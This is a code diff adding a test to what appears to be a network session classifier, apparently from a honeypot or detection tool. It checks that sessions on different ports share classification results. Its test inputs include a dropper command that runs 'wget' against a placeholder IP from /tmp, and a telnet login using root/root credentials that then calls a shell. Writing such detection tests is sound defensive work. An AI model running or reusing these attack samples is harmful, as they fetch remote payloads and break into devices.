@@ -101,3 +101,14 @@ def test_unknown_streams_share_classifications_and_verdicts() -> None:
     assert va is vb
     dropper = sc.verdict(b"\x00cd /tmp; wget http://198.51.100.7/x\n", 9999, b"")
     assert dropper is not va and dropper.columns["indicators"][0] == "http://198.51.100.7/x"
+
+
+def test_ports_share_the_columns_and_evidence_of_equal_unknown_classifications() -> None:
+    sc = SessionClassifier()
+    a, b = sc.verdict(b"\x00\x81x", 1000, b""), sc.verdict(b"\x00\x81x", 1001, b"")
+    assert a is not b and a.classification.dst_port == 1000 and b.classification.dst_port == 1001
+    assert a.columns is b.columns and a.evidence is b.evidence and a.cut == b.cut
+    fresh = SessionClassifier().verdict(b"\x00\x81x", 1001, b"")
+    assert (fresh.columns, fresh.evidence, fresh.cut) == (b.columns, b.evidence, b.cut)
+    telnet = sc.verdict(b"\xff\xfb\x01root\r\nroot\r\nsh\r\n", 1000, b"")
+    assert telnet.columns is not a.columns and telnet.classification.app == "telnet"
